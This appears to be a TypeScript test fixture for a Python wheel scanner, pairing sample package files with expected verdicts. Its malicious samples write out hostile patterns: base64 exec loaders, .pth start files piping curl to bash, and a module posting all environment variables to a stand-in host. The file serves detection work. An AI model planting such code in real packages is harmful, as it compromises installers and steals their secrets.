import type { Verdict } from '@sallyport/domain';
import { recordLine, type Files } from './archives';

export interface WheelSample {
  readonly what: string;
  readonly files: Files;
  readonly record?: string;
  readonly verdict: Verdict;
  readonly rules?: readonly string[];
}

const base64 = (text: string) => Buffer.from(text).toString('base64');
const INFO = 'sample-1.0.0.dist-info';
const TEXT = 'x = 1\n';

export const WHEELS: readonly WheelSample[] = [
  { what: 'plain code', files: { 'sample/__init__.py': TEXT }, verdict: 'clean' },
  {
    what: 'code that uses the network',
    files: {
      'sample/__init__.py':
        'import requests, os\ndef get(u):\n  return requests.get(u, headers={"a": os.environ["API_TOKEN"]})',
    },
    verdict: 'clean',
  },
  { what: 'a native library', files: { 'sample/_x.so': Buffer.from('7f454c46', 'hex') }, verdict: 'clean' },

  {
    what: 'hidden code at import (W4SP)',
    files: { 'sample/__init__.py': `import base64;exec(base64.b64decode('${base64('print(1)')}'))` },
    verdict: 'malicious',
    rules: ['import-hidden-code'],
  },
  {
    what: 'the same pushed off the screen',
    files: {
      'sample/__init__.py': `import base64${' '.repeat(300)};exec(base64.b64decode('${base64('print(1)')}'))`,
    },
    verdict: 'malicious',
    rules: ['import-hidden-code'],
  },
  {
    what: 'the same in another module',
    files: {
      'sample/deep/er.py': `from marshal import loads\nfrom zlib import decompress as d\nexec(loads(d(b'x')))`,
    },
    verdict: 'malicious',
    rules: ['import-hidden-code'],
  },
  {
    what: 'fetched code at import',
    files: {
      'sample/__init__.py': `import urllib.request\nexec(urllib.request.urlopen('https://x.invalid').read())`,
    },
    verdict: 'malicious',
    rules: ['import-hidden-code'],
  },
  {
    what: 'a template engine',
    files: {
      'sample/t.py': 'def render(source):\n  ns = {}\n  exec(compile(source, "t", "exec"), ns)\n  return ns',
    },
    verdict: 'clean',
  },
  {
    what: 'embedded data',
    files: {
      'sample/data.py': `import base64, zlib\nDATA = zlib.decompress(base64.b64decode('${base64('x')}'))\ndef f():\n  return eval('1')`,
    },
    verdict: 'clean',
  },

  {
    what: 'a one-line start file that fetches (Hades)',
    files: { 'sample-setup.pth': `import os; os.system("curl -fsSL https://bun.invalid | bash")` },
    verdict: 'malicious',
    rules: ['autoload-payload', 'pth-code'],
  },
  {
    what: 'a start file that hides code (LiteLLM)',
    files: { 'sample_init.pth': `import base64; exec(base64.b64decode("${base64('print(1)')}"))` },
    verdict: 'malicious',
    rules: ['autoload-payload'],
  },
  {
    what: 'a start file whose module steals',
    files: {
      'x.pth': 'import sample_boot',
      'sample_boot.py': `import os, json, requests\nrequests.post('https://x.invalid', data=json.dumps(dict(os.environ)))`,
    },
    verdict: 'malicious',
    rules: ['autoload-payload'],
  },
  {
    what: 'a start file whose module runs programs',
    files: {
      'x.pth': 'import sample_boot',
      'sample_boot.py': 'import subprocess\nsubprocess.Popen(["frobnicate"])',
    },
    verdict: 'suspicious',
    rules: ['autoload-active'],
  },
  {
    what: 'a start file inside the data folder',
    files: { 'sample-1.0.0.data/purelib/x.pth': `import os; os.system("curl https://x.invalid | sh")` },
    verdict: 'malicious',
    rules: ['autoload-payload'],
  },
  {
    what: 'a start file of a namespace package',
    files: {
      'sample-nspkg.pth': `import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sample',))`,
    },
    verdict: 'warning',
    rules: ['pth-code'],
  },
  {
    what: 'a start file of coverage',
    files: { 'cov.pth': `import os, sys;exec('if "COV_CORE_SOURCE" in os.environ: import sample_cov')` },
    verdict: 'warning',
    rules: ['pth-code'],
  },
  { what: 'a start file of paths', files: { 'x.pth': './src\n../other\n' }, verdict: 'clean' },
  {
    what: 'sitecustomize',
    files: { 'sitecustomize.py': TEXT },
    verdict: 'suspicious',
    rules: ['sitecustomize-file'],
  },
  {
    what: 'usercustomize in the data folder',
    files: { 'sample-1.0.0.data/data/lib/usercustomize.py': TEXT },
    verdict: 'suspicious',
    rules: ['sitecustomize-file'],
  },
  {
    what: 'a module of that name inside a package',
    files: { 'sample/sitecustomize_test.py': TEXT },
    verdict: 'clean',
  },

  {
    what: 'a file that RECORD does not list',
    files: { 'sample/a.py': TEXT, 'sample/b.py': TEXT },
    record: `${recordLine('sample/a.py', TEXT)}\n${INFO}/METADATA,,\n${INFO}/WHEEL,,\n`,
    verdict: 'warning',
    rules: ['record-unlisted-file'],
  },
  {
    what: 'a file that is not the one of RECORD',
    files: { 'sample/a.py': TEXT },
    record: `${recordLine('sample/a.py', 'other')}\n${INFO}/METADATA,,\n${INFO}/WHEEL,,\n`,
    verdict: 'suspicious',
    rules: ['record-mismatch'],
  },
];
